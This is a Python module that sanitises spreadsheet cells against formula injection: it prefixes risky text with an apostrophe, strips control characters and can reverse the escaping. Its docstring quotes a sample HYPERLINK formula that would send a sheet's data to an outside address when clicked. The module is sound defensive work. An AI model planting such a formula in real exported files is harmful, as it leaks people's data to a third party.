"""Cells of every CSV and XLSX file SaferPlan writes, safe to open in a spreadsheet.

Text comes from people (an officer's update, a grant's name, a ward's name), and a spreadsheet
reads text that begins with = + - @, a tab or a carriage return as a formula: an update reading
`=HYPERLINK("http://...?d="&A2, "Click")` would send the sheet's data away when clicked. So, as
OWASP advises, such text is written with an apostrophe before it, in CSV and XLSX alike, and XLSX
cells of text are stored as text, never as formulas. Numbers and dates are written as they are
(a negative amount stays a number). Control characters, which XLSX cannot hold, are dropped.

`original_text` undoes the apostrophe, so that a file exported and imported again gives back the
same text. Text that already begins with apostrophes before such a character gets one more, so
the two are exact inverses.
"""

import csv
import re

FORMULA_STARTS = frozenset("=+-@\t\r")
# The characters XML 1.0 (and so XLSX) cannot hold: C0 controls other than tab, LF and CR.
UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def reads_as_formula(text):
    return text.lstrip("'")[:1] in FORMULA_STARTS


def safe_value(value):
    """The value to write for `value`: text made safe, anything else unchanged."""
    if not isinstance(value, str):
        return value
    text = UNWRITABLE.sub("", value)
    return "'" + text if reads_as_formula(text) else text


def original_text(text):
    """The text `safe_value` was given, from what it wrote."""
    if text.startswith("'") and reads_as_formula(text[1:]):
        return text[1:]
    return text


class SafeCsvWriter:
    """csv.writer's writerow and writerows, each cell through `safe_value`."""

    def __init__(self, handle):
        self.writer = csv.writer(handle)

    def writerow(self, row):
        return self.writer.writerow([safe_value(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(handle):
    return SafeCsvWriter(handle)


def append_row(sheet, row):
    """Append `row` to an openpyxl worksheet. openpyxl stores text as text (data type "s")
    unless it starts with "=", which `safe_value` never leaves."""
    sheet.append([safe_value(value) for value in row])
